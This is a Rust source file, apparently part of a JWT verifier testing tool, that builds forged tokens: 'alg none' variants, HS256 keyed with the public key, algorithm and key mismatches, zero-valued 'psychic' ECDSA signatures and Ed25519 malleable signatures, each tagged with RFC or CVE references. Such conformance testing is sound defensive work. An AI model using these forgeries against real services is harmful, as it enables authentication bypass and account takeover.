//! How the signature is made: the header says it, and the attacker writes the header.

use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD as BASE64URL};
use jsonwebtoken::Algorithm as Jwa;
use mcp_auth::keys::Algorithm;
use serde_json::{Value, json};

use crate::{
    attack::{Attack, Group, Needs, Rows},
    der,
    forge::{Forge, Forged, header_for},
    vectors,
};

const NONE: &str = "RFC 8725 §3.2; CVE-2015-9235";
const CONFUSION: &str = "RFC 8725 §2.1, §3.1; CVE-2016-10555";
const BOUND: &str = "RFC 8725 §3.1; RFC 7517 §4.4";
const PSYCHIC: &str = "RFC 7518 §3.4; CVE-2022-21449";

/// The order of P-256's group (FIPS 186-5): r and s are smaller.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa, 0xad, 0xa7,
    0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];
/// The order of Ed25519's group, the last byte first (RFC 8032 §5.1).
const ED25519_ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

pub(super) fn rows() -> Vec<Attack> {
    [none(), mac(), bound_to_the_key(), numbers(), published()].concat()
}

fn none() -> Vec<Attack> {
    let no = Needs::Nothing;
    Rows::of(Group::Algorithm)
        .breach(("alg-none", "`alg` none, no signature", NONE), no, |f| f.unsigned(json!({ "alg": "none" })))
        .breach(("alg-none-capital", "`alg` None", NONE), no, |f| f.unsigned(json!({ "alg": "None" })))
        .breach(("alg-none-upper", "`alg` NONE", NONE), no, |f| f.unsigned(json!({ "alg": "NONE" })))
        .breach(("alg-none-mixed", "`alg` nOnE", NONE), no, |f| f.unsigned(json!({ "alg": "nOnE" })))
        .breach(("alg-none-space", "`alg` none with a space behind it", NONE), no, |f| {
            f.unsigned(json!({ "alg": "none " }))
        })
        .breach(("alg-none-two-parts", "`alg` none, and no second dot", NONE), no, |f| {
            Ok(f.unsigned(json!({ "alg": "none" }))?.trim_end_matches('.').to_owned())
        })
        .breach(("alg-none-signature", "`alg` none with something for a signature", NONE), no, |f| {
            f.with_signature(json!({ "alg": "none" }), b"signature")
        })
        .breach(("alg-empty", "`alg` the empty string, no signature", "RFC 7515 §4.1.1"), no, |f| {
            f.unsigned(json!({ "alg": "" }))
        })
        .breach(("alg-missing", "no `alg`, no signature", "RFC 7515 §4.1.1"), no, |f| {
            f.unsigned(json!({ "alg": null }))
        })
        .breach(("alg-array", "`alg` an array with none in it", "RFC 7515 §4.1.1"), no, |f| {
            f.unsigned(json!({ "alg": ["none"] }))
        })
        .breach(("alg-unknown", "`alg` a name that nobody has heard of", "RFC 7515 §5.2"), no, |f| {
            f.with_signature(json!({ "alg": "XX256" }), b"signature")
        })
        .lax(
            ("alg-lowercase", "`alg` in lower case, signed by the real key", "RFC 7515 §4.1.1"),
            Needs::SigningKey,
            |f| f.with_header(json!({ "alg": f.key()?.public().algorithm().as_str().to_lowercase() })),
        )
        .lax(("alg-number", "`alg` a number, signed by the real key", "RFC 7515 §4.1.1"), Needs::SigningKey, |f| {
            f.with_header(json!({ "alg": 256 }))
        })
        .done()
}

fn mac() -> Vec<Attack> {
    let public = Needs::PublicKey;
    Rows::of(Group::Algorithm)
        .breach(("hs256-public-pem", "HS256 keyed with the public key's PEM", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, public_pem(f)?.as_bytes())
        })
        .breach(
            ("hs256-public-pem-trimmed", "HS256 keyed with the PEM without its last newline", CONFUSION),
            public,
            |f| f.mac(json!({}), Jwa::HS256, public_pem(f)?.trim_end().as_bytes()),
        )
        .breach(("hs256-public-pem-crlf", "HS256 keyed with the PEM in CRLF lines", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, public_pem(f)?.replace('\n', "\r\n").as_bytes())
        })
        .breach(("hs384-public-pem", "HS384 keyed with the public key's PEM", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS384, public_pem(f)?.as_bytes())
        })
        .breach(("hs512-public-pem", "HS512 keyed with the public key's PEM", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS512, public_pem(f)?.as_bytes())
        })
        .breach(("hs256-public-der", "HS256 keyed with the public key's DER", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, &der::spki(f.public()?.jwk()).unwrap_or_default())
        })
        .breach(("hs256-public-raw", "HS256 keyed with the bare key: PKCS #1, or the point", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, &bare(f.public()?.jwk()))
        })
        .breach(("hs256-jwk-n", "HS256 keyed with the JWK's `n` (or `x`) as text", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, number(f.public()?.jwk()).as_bytes())
        })
        .breach(("hs256-jwk-n-bytes", "HS256 keyed with the JWK's `n` (or `x`) decoded", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, &BASE64URL.decode(number(f.public()?.jwk())).unwrap_or_default())
        })
        .breach(("hs256-jwk", "HS256 keyed with the whole JWK", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, f.public()?.jwk().to_string().as_bytes())
        })
        .breach(("hs256-jwks", "HS256 keyed with the whole JWK Set", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, json!({ "keys": [f.public()?.jwk()] }).to_string().as_bytes())
        })
        .breach(("hs256-kid", "HS256 keyed with the key id", CONFUSION), public, |f| {
            f.mac(json!({}), Jwa::HS256, f.public()?.kid().as_bytes())
        })
        .breach(("hs256-empty-secret", "HS256 keyed with nothing", "RFC 7518 §3.2"), Needs::Nothing, |f| {
            f.mac(json!({}), Jwa::HS256, b"")
        })
        .breach(("hs256-weak-secret", "HS256 keyed with `secret`", "RFC 8725 §3.5"), Needs::Nothing, |f| {
            f.mac(json!({}), Jwa::HS256, b"secret")
        })
        .breach(("hs256-issuer", "HS256 keyed with the issuer's name", "RFC 8725 §3.5"), Needs::Nothing, |f| {
            f.mac(json!({}), Jwa::HS256, f.target().issuer.as_bytes())
        })
        .done()
}

fn bound_to_the_key() -> Vec<Attack> {
    let (rs256, ps256) = (Needs::SigningKeyFor(Algorithm::RS256), Needs::SigningKeyFor(Algorithm::PS256));
    Rows::of(Group::Algorithm)
        .lax(("ps256-by-rs256-key", "PS256, by a key that is published for RS256", BOUND), rs256, |f| {
            f.signed_as(f.key_for(Algorithm::RS256)?, "PS256", Jwa::PS256)
        })
        .lax(("rs256-by-ps256-key", "RS256, by a key that is published for PS256", BOUND), ps256, |f| {
            f.signed_as(f.key_for(Algorithm::PS256)?, "RS256", Jwa::RS256)
        })
        .lax(("rs384-by-rs256-key", "RS384, by a key that is published for RS256", BOUND), rs256, |f| {
            f.signed_as(f.key_for(Algorithm::RS256)?, "RS384", Jwa::RS384)
        })
        .lax(("rs512-by-rs256-key", "RS512, by a key that is published for RS256", BOUND), rs256, |f| {
            f.signed_as(f.key_for(Algorithm::RS256)?, "RS512", Jwa::RS512)
        })
        .lax(("rs256-signed-ps256", "says RS256, is signed PS256", "RFC 7515 §5.2"), rs256, |f| {
            f.signed_as(f.key_for(Algorithm::RS256)?, "RS256", Jwa::PS256)
        })
        .lax(("es256-signed-rs256", "says ES256, is signed RS256 by an RSA key", BOUND), rs256, |f| {
            f.signed_as(f.key_for(Algorithm::RS256)?, "ES256", Jwa::RS256)
        })
        .lax(("hs256-signed-rs256", "says HS256, is signed RS256 by the real key", BOUND), rs256, |f| {
            f.signed_as(f.key_for(Algorithm::RS256)?, "HS256", Jwa::RS256)
        })
        .breach(
            ("es256-under-our-kid", "ES256 by the attacker, under the real key's id", BOUND),
            Needs::PublicKey,
            |f| f.by(f.attacker().ec(), header_with_kid(f)?, json!({})),
        )
        .done()
}

/// Signatures that are numbers out of range.
fn numbers() -> Vec<Attack> {
    let (es256, eddsa) = (Needs::SigningKeyFor(Algorithm::ES256), Needs::SigningKeyFor(Algorithm::EdDSA));
    Rows::of(Group::Algorithm)
        .breach(("es256-zero", "ES256 with r and s zero (psychic signature)", PSYCHIC), es256, |f| {
            f.with_signature(header_for(f.key_for(Algorithm::ES256)?.public()), &[0; 64])
        })
        .breach(
            ("es256-zero-our-kid", "ES256 with r and s zero, under the real key's id", PSYCHIC),
            Needs::Nothing,
            |f| f.with_signature(json!({ "alg": "ES256" }), &[0; 64]),
        )
        .breach(("es256-order", "ES256 with r and s the order of the group", PSYCHIC), es256, |f| {
            let header = header_for(f.key_for(Algorithm::ES256)?.public());
            f.with_signature(header, &[P256_ORDER, P256_ORDER].concat())
        })
        .breach(("es256-zero-der", "ES256 with r and s zero, in DER", PSYCHIC), es256, |f| {
            f.with_signature(header_for(f.key_for(Algorithm::ES256)?.public()), &der::ecdsa_signature(&[0; 64]))
        })
        .lax(("es256-der", "ES256 with the real signature in DER", "RFC 7518 §3.4"), es256, |f| {
            es256_rewritten(f, der::ecdsa_signature)
        })
        .lax(("es256-longer-numbers", "ES256 with r and s one zero byte longer", "RFC 7518 §3.4"), es256, |f| {
            es256_rewritten(f, |signature| {
                let (r, s) = signature.split_at(signature.len() / 2);
                [&[0], r, &[0], s].concat()
            })
        })
        .breach(("eddsa-zero", "EdDSA with a signature of zeros", "RFC 8032 §5.1.7"), eddsa, |f| {
            f.with_signature(header_for(f.key_for(Algorithm::EdDSA)?.public()), &[0; 64])
        })
        .lax(
            ("eddsa-second-s", "EdDSA with the order added to S: a second signature", "RFC 8032 §5.1.7, §8.4"),
            eddsa,
            |f| {
                let key = f.key_for(Algorithm::EdDSA)?;
                rewritten(&f.signed_as(key, "EdDSA", Jwa::EdDSA)?, eddsa_plus_order)
            },
        )
        .breach(
            ("eddsa-zero-our-kid", "EdDSA with a signature of zeros, under the real key's id", BOUND),
            Needs::Nothing,
            |f| f.with_signature(json!({ "alg": "EdDSA" }), &[0; 64]),
        )
        .done()
}

/// Tokens that are printed in an RFC.
fn published() -> Vec<Attack> {
    let no = Needs::Nothing;
    Rows::of(Group::Algorithm)
        .breach(("rfc7515-a1", "the HS256 example of RFC 7515", "RFC 7515 §A.1"), no, |_| {
            Ok(vectors::RFC7515_A1.to_owned())
        })
        .breach(("rfc7515-a1-secret", "HS256 keyed with RFC 7515's example secret", "RFC 7515 §A.1"), no, |f| {
            f.mac(json!({}), Jwa::HS256, &BASE64URL.decode(vectors::RFC7515_A1_SECRET).unwrap_or_default())
        })
        .breach(("rfc7515-a2", "the RS256 example of RFC 7515", "RFC 7515 §A.2"), no, |_| {
            Ok(vectors::RFC7515_A2.to_owned())
        })
        .breach(("rfc7515-a3", "the ES256 example of RFC 7515", "RFC 7515 §A.3"), no, |_| {
            Ok(vectors::RFC7515_A3.to_owned())
        })
        .breach(("rfc7519-6-1", "the unsecured example of RFC 7519", "RFC 7519 §6.1"), no, |_| {
            Ok(vectors::RFC7519_6_1.to_owned())
        })
        .breach(("rfc8037-a4", "the Ed25519 example of RFC 8037", "RFC 8037 §A.4"), no, |_| {
            Ok(vectors::RFC8037_A4.to_owned())
        })
        .done()
}

fn public_pem(f: &Forge<'_>) -> Forged {
    Ok(der::public_pem(f.public()?.jwk()))
}

fn header_with_kid(f: &Forge<'_>) -> Forged<Value> {
    Ok(json!({ "kid": f.public()?.kid() }))
}

fn number(jwk: &Value) -> &str {
    jwk["n"].as_str().or_else(|| jwk["x"].as_str()).unwrap_or_default()
}

fn bare(jwk: &Value) -> Vec<u8> {
    let bytes = |name: &str| jwk[name].as_str().and_then(|text| BASE64URL.decode(text).ok()).unwrap_or_default();
    der::pkcs1(jwk).unwrap_or_else(|| [bytes("x"), bytes("y")].concat())
}

fn es256_rewritten(f: &Forge<'_>, rewrite: fn(&[u8]) -> Vec<u8>) -> Forged {
    rewritten(&f.signed_as(f.key_for(Algorithm::ES256)?, "ES256", Jwa::ES256)?, rewrite)
}

fn rewritten(token: &str, rewrite: fn(&[u8]) -> Vec<u8>) -> Forged {
    let (message, signature) = token.rsplit_once('.').unwrap_or_default();
    let signature = rewrite(&BASE64URL.decode(signature).unwrap_or_default());
    Ok(format!("{message}.{}", BASE64URL.encode(signature)))
}

/// R stays; S, the last byte first, grows by the order.
fn eddsa_plus_order(signature: &[u8]) -> Vec<u8> {
    let (r, s) = signature.split_at(signature.len() / 2);
    let mut carry = 0;
    let sum = s.iter().zip(ED25519_ORDER).map(|(a, b)| {
        let sum = u16::from(*a) + u16::from(b) + carry;
        carry = sum >> 8;
        sum.to_le_bytes()[0]
    });
    r.iter().copied().chain(sum).collect()
}
